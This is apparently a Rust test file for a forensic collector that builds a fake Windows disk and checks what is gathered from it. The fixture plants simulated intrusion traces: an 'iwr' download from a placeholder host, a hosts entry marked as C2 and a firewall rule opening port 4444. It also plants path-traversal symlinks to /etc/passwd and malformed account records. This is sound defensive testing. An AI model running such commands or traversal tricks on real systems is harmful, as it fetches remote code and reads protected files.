//! A package of a Windows disk.

use std::path::Path;

use serde_json::{Value, json};

use super::{Unpacked, left_over, lrsh, ran, schemas};
use crate::kit::hive::{Key, WRITTEN};
use crate::kit::hive_log;
use crate::kit::shell::Home;
use crate::kit::windows::{self, MAX, put, utf16};

/// A SID as Windows keeps it.
fn sid(text: &str) -> Vec<u8> {
    let mut numbers = text.split('-').skip(3).map(|number| number.parse::<u32>().unwrap()).collect::<Vec<_>>();
    let mut bytes = vec![1, u8::try_from(numbers.len()).unwrap(), 0, 0, 0, 0, 0, 5];
    bytes.extend(numbers.drain(..).flat_map(u32::to_le_bytes));
    bytes
}

/// The accounts: max, who is an administrator, and one that is switched off.
fn sam() -> Key {
    let mut key = Key::new("ROOT");
    let top = r"SAM\Domains\Account";
    let machine = sid(MAX.rsplit_once('-').unwrap().0);
    key.at(top).value("V", 3, &[&[0; 40][..], &machine[12..]].concat());
    for (name, number, bits) in [("max", 1001_u32, 0x10_u16), ("Guest", 501, 0x15)] {
        key.at(&format!(r"{top}\Users\Names\{name}")).value("", number, &[]);
        let mut facts = vec![0; 80];
        facts[8..16].copy_from_slice(&WRITTEN.to_le_bytes());
        facts[32..40].copy_from_slice(&i64::MAX.to_le_bytes());
        facts[56..58].copy_from_slice(&bits.to_le_bytes());
        facts[66] = 7;
        let full: Vec<u8> = "Max Müller".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut texts = vec![0; 0xcc];
        texts[0x1c..0x20].copy_from_slice(&u32::try_from(full.len()).unwrap().to_le_bytes());
        texts.extend(full);
        texts.extend(b"hash-of-a-password");
        key.at(&format!(r"{top}\Users\{number:08X}")).value("F", 3, &facts).value("V", 3, &texts);
    }
    let name: Vec<u8> = "Administrators".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut group = vec![0; 0x34];
    for (at, number) in [(0x10, 0), (0x14, name.len()), (0x28, name.len()), (0x30, 2)] {
        group[at..at + 4].copy_from_slice(&u32::try_from(number).unwrap().to_le_bytes());
    }
    group.extend([name, sid("S-1-5-32-544"), sid(MAX)].concat());
    key.at(r"SAM\Domains\Builtin\Aliases\00000220").value("C", 3, &group);
    key
}

/// The disk with something for every part.
fn disk(folder: &Path) -> std::path::PathBuf {
    let disk = windows::disk(folder);
    let config = disk.join("Windows/System32/config");
    sam().write(&config.join("SAM"));
    let mut software = windows::software();
    software
        .at(r"Microsoft\Windows\CurrentVersion\Uninstall\{7}")
        .text("DisplayName", "Remote Tool")
        .text("DisplayVersion", "1.2")
        .text("InstallDate", "20260103")
        .text("UninstallString", "msiexec /x {7}");
    software.at(r"Microsoft\Windows NT\CurrentVersion").number("InstallDate", 1_700_000_000).text("RegisteredOwner", "Max");
    software.write(&config.join("SOFTWARE"));
    // What the device had not yet written is in the log.
    let before = software.hive(crate::kit::hive::List::Hashes);
    let tools = r"Wow6432Node\Microsoft\Windows\CurrentVersion\Uninstall\Late";
    let after = {
        software.at(tools).text("DisplayName", "Came last");
        software.hive(crate::kit::hive::List::Hashes)
    };
    let mut unwritten = before.clone();
    hive_log::dirty(&mut unwritten, 5, 4);
    std::fs::write(config.join("SOFTWARE"), &unwritten).unwrap();
    let log = hive_log::log(&unwritten, 4, &[hive_log::entry(4, &before, &after)]);
    std::fs::write(config.join("SOFTWARE.LOG1"), log).unwrap();
    let mut system = windows::system();
    system.at(r"ControlSet001\Control\Windows").value("ShutdownTime", 3, &WRITTEN.to_le_bytes());
    system
        .at(r"ControlSet001\Services\Tcpip\Parameters\Interfaces\{1}")
        .number("EnableDHCP", 0)
        .texts("IPAddress", &["192.0.2.7"])
        .text("NameServer", "203.0.113.53,192.0.2.53");
    system.at(r"ControlSet001\Services\Tcpip\Parameters\PersistentRoutes").text("10.0.0.0,255.0.0.0,192.0.2.1,1", "");
    system
        .at(r"ControlSet001\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules")
        .text("{9}", r"v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=4444|App=C:\Users\max\up.exe|Name=Update|");
    system.at("MountedDevices").value(r"\DosDevices\E:", 3, &utf16("_??_USBSTOR#Disk")[2..]);
    system.at(r"ControlSet001\Enum\USBSTOR\Disk&Ven_X\0123").text("FriendlyName", "X Stick");
    system.write(&config.join("SYSTEM"));
    let mut user = windows::user();
    user.at(r"Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU").text("a", r"cmd /k\1").text("MRUList", "a");
    user.write(&disk.join("Users/max/NTUSER.DAT"));
    put(&disk, "Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n203.0.113.9 update.example # c2\r\n");
    put(&disk, "Windows/System32/winevt/Logs/Security.evtx", "ElfFile\0");
    put(&disk, "Windows/Prefetch/UP.EXE-0123ABCD.pf", "MAM");
    put(
        &disk,
        "Users/max/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
        "whoami /all\r\niwr http://203.0.113.9/x\r\n",
    );
    put(&disk, "$MFT", "FILE0");
    // What a hostile disk puts where it is looked: a FIFO for a log, a link out of it for a hive.
    let logs = disk.join("Windows/System32/winevt/Logs");
    assert!(std::process::Command::new("mkfifo").arg(logs.join("System.evtx")).status().unwrap().success());
    std::os::unix::fs::symlink("/etc/passwd", logs.join("Application.evtx")).unwrap();
    std::os::unix::fs::symlink("../../../../../../../../../etc/passwd", config.join("DRIVERS")).unwrap();
    disk
}

#[test]
fn a_windows_disk_is_collected() {
    let home = Home::new();
    let disk = disk(&home.work());
    let told = ran(lrsh(&home, &disk, &["-c", "collect -output json"])).code(0).json();
    assert_eq!(told["failed"], json!([]), "{told}");
    let package = Unpacked::open(&home.work().join(told["saved_as"].as_str().unwrap()));
    for live in ["processes", "connections", "listening", "arp", "open_files"] {
        let (status, why) = package.part(live);
        assert!(status == "unavailable" && why.contains("running system"), "{live}: {status}, {why}");
    }
    for whole in [
        "routes",
        "interfaces",
        "firewall",
        "dns",
        "kernel_modules",
        "mounts",
        "system",
        "users",
        "services",
        "tasks",
        "startup",
        "persistence",
        "shell_history",
        "registry",
        "logs",
        "prefetch",
        "mft",
        "recent_files",
    ] {
        assert_eq!(package.part(whole), ("complete".to_owned(), String::new()), "{whole}");
    }
    assert_eq!(package.part("sudoers").0, "unavailable");
    let (status, why) = package.part("packages");
    assert!(status == "partial" && why.contains("checksums"), "{why}");
    schemas::check(&package, schemas::WINDOWS);
    let row = |list: &str, field: &str, value: &str| -> Value {
        let rows = package.rows(list);
        rows.iter().find(|row| row[field] == value).unwrap_or_else(|| panic!("{value} is not among {rows:?}")).clone()
    };
    let system = &package.rows("system/system.jsonl")[0];
    assert_eq!((&system["name"], &system["owner"]), (&json!("FILES01"), &json!("Max")));
    assert_eq!((&system["installed"], &system["stopped"]), (&json!("2023-11-14T22:13:20Z"), &json!("2026-01-02T03:04:05Z")));
    let max = row("users/users.jsonl", "user_name", "max");
    assert_eq!((&max["sid"], &max["home"]), (&json!(MAX), &json!(r"C:\Users\max")));
    assert_eq!((&max["full_name"], &max["groups"]), (&json!("Max Müller"), &json!(["Administrators"])));
    assert_eq!(
        (&max["last_login"], &max["expires"], &max["logins"]),
        (&json!("2026-01-02T03:04:05Z"), &json!(null), &json!(7))
    );
    let guest = row("users/users.jsonl", "user_name", "Guest");
    assert_eq!(
        (&max["disabled"], &guest["disabled"], &guest["password_required"]),
        (&json!(false), &json!(true), &json!(false))
    );
    assert_eq!(row("users/users.jsonl", "sid", "S-1-5-19")["user_name"], "LocalService");
    assert_eq!(row("interfaces/interfaces.jsonl", "name", "{1}")["addresses"], json!(["192.0.2.7"]));
    assert_eq!(package.rows("routes/routes.jsonl")[0]["gateway"], "192.0.2.1");
    let rule = row("firewall/firewall.jsonl", "title", "Update");
    assert_eq!((&rule["action"], &rule["local_port"], &rule["enabled"]), (&json!("Allow"), &json!("4444"), &json!(true)));
    assert_eq!(row("dns/dns.jsonl", "name", "203.0.113.9")["values"], json!(["update.example"]));
    assert_eq!(row("dns/dns.jsonl", "name", "NameServer")["values"], json!(["203.0.113.53", "192.0.2.53"]));
    assert_eq!(row("mounts/mounts.jsonl", "mount_point", r"\DosDevices\E:")["source"], "_??_USBSTOR#Disk");
    assert_eq!(row("mounts/usb_storage.jsonl", "serial", "0123")["name"], "X Stick");
    assert_eq!(row("shell_history/shell_history.jsonl", "command", "iwr http://203.0.113.9/x")["user_name"], "max");
    assert!(row("shell_history/shell_history.jsonl", "command", "cmd /k")["file"].as_str().unwrap().ends_with(r"RunMRU\\a"));
    assert_eq!(row("packages/packages.jsonl", "name", "Remote Tool")["installed"], "2026-01-03");
    assert_eq!(row("packages/packages.jsonl", "name", "Came last")["user_name"], json!(null), "from the log of the hive");
    assert_eq!(row("prefetch/prefetch.jsonl", "name", "UP.EXE")["path_hash"], "0123ABCD");
    assert!(package.rows("services/services.jsonl").iter().any(|row| row["service_name"] == "Spooler"));
    assert!(
        package.rows("recent_files/recent_files.jsonl").iter().any(|row| row["path"] == r"C:\Users\max\Documents\report.txt")
    );
    let hive = row("registry/hives.jsonl", "path", r"C:\Windows\System32\config\SOFTWARE");
    assert_eq!((&hive["state"], &hive["log_entries"], &hive["taken"]), (&json!("recovered"), &json!(1), &json!(true)));
    let secret = row("registry/hives.jsonl", "path", r"C:\Windows\System32\config\SAM");
    assert!(secret["taken"] == false && secret["why_not"].as_str().unwrap().contains("hashes"), "{secret}");
    for taken in [
        "registry/raw/C/Windows/System32/config/SYSTEM",
        "registry/raw/C/Windows/System32/config/SOFTWARE.LOG1",
        "registry/raw/C/Users/max/NTUSER.DAT",
        "logs/raw/C/Windows/System32/winevt/Logs/Security.evtx",
        "prefetch/raw/C/Windows/Prefetch/UP.EXE-0123ABCD.pf",
        "mft/raw/C/%24MFT",
    ] {
        assert!(package.files.contains_key(taken), "{taken} is not among {:?}", package.files.keys());
    }
    let everything = package.files.values().flatten().copied().collect::<Vec<u8>>();
    let holds = |needle: &[u8]| everything.windows(needle.len()).any(|part| part == needle);
    assert!(!holds(b"hash-of-a-password"), "a password's hash is never taken");
    assert!(!holds(b"root:x:0:0"), "a link led out of the disk");
    assert_eq!(left_over(&home, &disk), Vec::<std::path::PathBuf>::new());
}

#[test]
fn hostile_accounts_and_an_empty_disk_are_collected_too() {
    let home = Home::new();
    let disk = windows::disk(&home.work());
    let config = disk.join("Windows/System32/config");
    let mut sam = Key::new("ROOT");
    let top = r"SAM\Domains\Account";
    sam.at(&format!(r"{top}\Users\Names\x")).value("", u32::MAX, &[]);
    sam.at(&format!(r"{top}\Users\FFFFFFFF")).value("F", 3, &[0xff; 9]).value("V", 3, &[0xff; 0xd0]);
    sam.at(top).value("V", 3, &[1]);
    let mut group = vec![0xff; 0x34];
    group[0x30..0x34].copy_from_slice(&u32::MAX.to_le_bytes());
    sam.at(r"SAM\Domains\Builtin\Aliases\1").value("C", 3, &group);
    group[0x28..0x2c].copy_from_slice(&[0; 4]);
    group.extend([0xff; 100]);
    sam.at(r"SAM\Domains\Builtin\Aliases\2").value("C", 3, &group);
    sam.write(&config.join("SAM"));
    std::fs::write(config.join("SOFTWARE"), "regf").unwrap();
    let told = ran(lrsh(&home, &disk, &["-c", "collect -output json"])).code(0).json();
    let package = Unpacked::open(&home.work().join(told["saved_as"].as_str().unwrap()));
    assert!(package.rows("users/users.jsonl").iter().any(|row| row["user_name"] == "x" && row["sid"].is_null()));
    assert_eq!(package.part("system").0, "unavailable");
    assert_eq!(package.rows("registry/hives.jsonl").iter().filter(|row| row["state"] == "unreadable").count(), 1);
}

#[test]
fn it_can_stay_on_a_disk_and_what_is_left_half_goes() {
    let home = Home::new();
    let disk = windows::disk(&home.work());
    let writable = |line: &str| ran(lrsh(&home, &disk, &["--root-writable", "-c", line]));
    let row = writable(r"collect -output_folder c:\users\MAX -output json").code(0).json();
    assert!(row["path"].as_str().unwrap().starts_with(r"C:\Users\max\collect-FILES01-"), "{row}");
    let stays = super::found(&disk, &|name| name.starts_with("collect-"));
    assert_eq!(stays.len(), 1);
    Unpacked::open(&stays[0]);
    std::fs::remove_file(&stays[0]).unwrap();
    // As an agent that died leaves it.
    crate::kit::talking::until("the end of that service", || home.processes().is_empty());
    let own = std::fs::read_dir(home.path().join("roots")).unwrap().next().unwrap().unwrap().path().join("agent/packages");
    std::fs::write(disk.join("Users/max/.collect-x.zip.part"), "half").unwrap();
    std::fs::write(own.join("1.where"), r"C:\Users\max\.collect-x.zip.part").unwrap();
    writable("session").code(0);
    assert_eq!(left_over(&home, &disk), Vec::<std::path::PathBuf>::new());
}
